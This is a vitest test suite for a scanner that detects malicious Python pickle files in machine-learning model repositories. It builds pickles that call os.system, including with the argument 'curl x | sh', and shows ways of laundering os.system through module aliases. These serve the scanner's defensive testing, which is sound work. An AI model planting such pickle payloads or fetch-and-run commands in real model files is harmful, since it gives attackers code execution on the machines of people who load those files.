import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { findingsOf, scanFiles } from "../../helpers/scan-files.js";
import { parsePolicy } from "../../../src/policy/policy.js";
import { ruleTester } from "../../helpers/rule-tester.js";
import { osSystemPickle, pickle } from "../../builders/pickle-builder.js";

const BENIGN = join(import.meta.dirname, "../../../fixtures/pickle/benign");
const benign = (name: string): Uint8Array => readFileSync(join(BENIGN, name));
const stateDict = benign("torch-legacy-state-dict.bin");
const validSafetensors = readFileSync(join(import.meta.dirname, "../../../fixtures/safetensors/valid.safetensors"));

ruleTester("pickle-dangerous-global", {
  valid: [
    { name: "a PyTorch legacy state dict imports only allowlisted rebuild helpers", files: { "pytorch_model.bin": stateDict } },
    { name: "an OrderedDict of stdlib data types at protocol 0", files: { "data.pkl": benign("stdlib-ordereddict-p0.pkl") } },
  ],
  invalid: [
    { name: "os.system imported by GLOBAL", files: { "model.pkl": osSystemPickle() }, expect: (f) => expect(f[0]?.message).toContain("os.system") },
    {
      name: "its region spans the whole GLOBAL opcode with both name lines",
      files: { "evil.pkl": osSystemPickle("id") },
      // PROTO 2 takes bytes 0-1; "cos\nsystem\n" is 11 bytes.
      expect: (f) => expect(f[0]?.region).toMatchObject({ byteOffset: 2, byteLength: 11 }),
    },
    {
      name: "a dangerous attribute laundered through a safe module (torch._utils.os.system)",
      files: { "model.pkl": pickle().proto(4).stackGlobal("torch._utils", "os.system").stop().bytes() },
      expect: (f) => expect(f[0]?.message).toContain("resolves to os.system"),
    },
    {
      name: "posix.system resolves to os.system through the module aliases",
      files: { "model.pkl": pickle().proto(2).global("posix", "system").stop().bytes() },
    },
    {
      name: "an import whose module name is computed by a call",
      files: { "model.pkl": pickle().proto(4).call("builtins", "str", ["os"]).str("system").op("STACK_GLOBAL").stop().bytes() },
      expect: (f) => expect(f.some((x) => x.message.includes("computed while unpickling"))).toBe(true),
    },
  ],
});

ruleTester("pickle-unknown-global", {
  valid: [
    { name: "a scikit-learn pipeline pickled at protocol 4", files: { "model.pkl": benign("sklearn-pipeline.pkl") } },
    { name: "a joblib dump of a decision tree", files: { "model.joblib": benign("sklearn-tree.joblib") } },
  ],
  invalid: [
    {
      name: "a global on neither list, with how to allow it",
      files: { "model.pkl": pickle().proto(2).global("mylib.layers", "Dense").op("EMPTY_TUPLE").op("REDUCE").stop().bytes() },
      expect: (f) => {
        expect(f[0]?.severity).toBe("high");
        expect(f[0]?.message).toContain('pickle-safe-globals: [{ module: "mylib.layers", name: "Dense"');
      },
    },
  ],
});

ruleTester("pickle-dangerous-call", {
  valid: [{ name: "tensor rebuild calls in a legacy checkpoint", files: { "model.pt": benign("torch-legacy-checkpoint.pt") } }],
  invalid: [
    { name: "os.system called with its constant argument", files: { "model.pkl": osSystemPickle("curl x | sh") }, expect: (f) => expect(f[0]?.message).toContain('os.system("curl x | sh")') },
    {
      name: "a dangerous callable passed as an argument to a safe one",
      files: { "model.pkl": pickle().proto(2).global("collections", "defaultdict").global("os", "system").op("TUPLE1").op("REDUCE").stop().bytes() },
    },
    {
      name: "SETITEM applied to an imported object",
      files: { "model.pkl": pickle().proto(2).global("collections", "OrderedDict").str("k").int(1).op("SETITEM").stop().bytes() },
      expect: (f) => expect(f[0]?.message).toContain("modifies the imported object collections.OrderedDict"),
    },
  ],
});

ruleTester("pickle-ext-code", {
  valid: [{ name: "a pickle without extension codes", files: { "model.pkl": benign("stdlib-ordereddict-p2.pkl") } }],
  invalid: [{ name: "EXT2 code 300", files: { "model.pkl": pickle().proto(2).op("EXT2", 300).stop().bytes() }, expect: (f) => expect(f[0]?.message).toContain("extension code 300") }],
});

ruleTester("pickle-malformed-after-call", {
  valid: [
    { name: "a truncated pickle that imported nothing yet", files: { "model.pkl": pickle().proto(2).op("EMPTY_LIST").int(1).bytes() } },
    { name: "a whole pickle with a call", files: { "model.pkl": pickle().proto(2).call("collections", "OrderedDict", []).stop().bytes() } },
  ],
  invalid: [
    {
      name: "a call followed by an invalid opcode",
      files: { "model.pkl": pickle().proto(2).call("collections", "OrderedDict", []).raw([0xff]).bytes() },
      expect: (f) => expect(f[0]?.message).toContain("after 1 call(s)"),
    },
    { name: "a call and no STOP", files: { "model.pkl": pickle().proto(2).call("collections", "OrderedDict", []).bytes() } },
  ],
});

ruleTester("pickle-in-weights-file", {
  valid: [
    { name: "training arguments are a pickle but not weights", files: { "training_args.bin": benign("stdlib-ordereddict-p4.pkl") } },
    { name: "a safetensors-only repository", files: { "config.json": "{}" } },
  ],
  invalid: [
    { name: "a legacy PyTorch checkpoint", files: { "pytorch_model.bin": stateDict }, expect: (f) => expect(f[0]?.message).toContain("replace pytorch_model.bin with safetensors") },
    {
      name: "pickle weights next to safetensors weights",
      files: { "pytorch_model.bin": stateDict, "model.safetensors": validSafetensors },
      expect: (f) => expect(f[0]?.message).toContain("prefer the safetensors file"),
    },
    {
      name: "a PyTorch zip checkpoint, named by its container",
      files: { "pytorch_model.bin": readFileSync(join(import.meta.dirname, "../../../fixtures/torch/linear-zip.pt")) },
      expect: (f) => expect(f[0]?.message).toContain("(PyTorch zip checkpoint)"),
    },
    {
      name: "a .safetensors file that is really a pickle is no safe copy to prefer",
      files: { "pytorch_model.bin": stateDict, "model.safetensors": benign("stdlib-ordereddict-p4.pkl") },
      expect: (f) => {
        const mine = f.filter((x) => x.artifact?.path === "pytorch_model.bin");
        expect(mine[0]?.message).toContain("replace pytorch_model.bin with safetensors");
        expect(mine[0]?.message).not.toContain("prefer");
      },
    },
    {
      name: "safetensors in another component's folder do not duplicate these weights",
      files: { "unet/diffusion_pytorch_model.bin": stateDict, "vae/diffusion_pytorch_model.safetensors": validSafetensors },
      expect: (f) => expect(f[0]?.message).toContain("replace unet/diffusion_pytorch_model.bin with safetensors"),
    },
    {
      name: "pickle weights beside safetensors of the same diffusers component",
      files: { "unet/diffusion_pytorch_model.bin": stateDict, "unet/diffusion_pytorch_model.safetensors": validSafetensors },
      expect: (f) => expect(f[0]?.message).toContain("also shipped as safetensors (unet/diffusion_pytorch_model.safetensors)"),
    },
  ],
});

ruleTester("pickle-frame-violation", {
  valid: [{ name: "protocol 4 frames as pickle.dumps writes them", files: { "data.pkl": benign("stdlib-ordereddict-p4.pkl") } }],
  invalid: [
    {
      name: "an opcode that crosses the end of its frame",
      files: { "data.pkl": pickle().proto(4).op("FRAME", 1).op("BININT1", 5).op("STOP").bytes() },
    },
  ],
});

describe("allowing a global in a policy file", () => {
  const files = { "model.pkl": pickle().proto(2).global("mylib.layers", "Dense").op("EMPTY_TUPLE").op("REDUCE").stop().bytes() };

  it("silences pickle-unknown-global for the listed global", async () => {
    const policy = parsePolicy({ lists: { "pickle-safe-globals": [{ module: "mylib.layers", name: "Dense", reason: "our own layer" }] } }, "policy.yaml");
    const report = await scanFiles(files, { policy });
    expect(findingsOf(report, "pickle-unknown-global")).toEqual([]);
  });

  it("never makes a dangerous global safe", async () => {
    const policy = parsePolicy({ lists: { "pickle-safe-globals": [{ module: "os", name: "system", reason: "trying" }] } }, "policy.yaml");
    const report = await scanFiles({ "model.pkl": osSystemPickle() }, { policy });
    expect(findingsOf(report, "pickle-dangerous-call").length).toBeGreaterThan(0);
  });
});
